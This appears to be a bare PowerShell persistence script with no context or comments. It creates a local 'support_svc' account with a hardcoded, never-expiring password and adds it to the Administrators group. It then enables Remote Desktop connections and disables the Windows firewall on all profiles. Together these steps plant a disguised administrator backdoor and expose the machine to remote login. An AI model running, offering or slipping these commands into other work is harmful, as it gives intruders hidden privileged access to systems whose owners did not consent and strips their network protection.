$pw = ConvertTo-SecureString 'Winter2024!' -AsPlainText -Force
New-LocalUser -Name 'support_svc' -Password $pw -PasswordNeverExpires
Add-LocalGroupMember -Group 'Administrators' -Member 'support_svc'
net localgroup administrators support_svc /add
Set-ItemProperty -Path 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -Name fDenyTSConnections -Value 0
netsh advfirewall set allprofiles state off
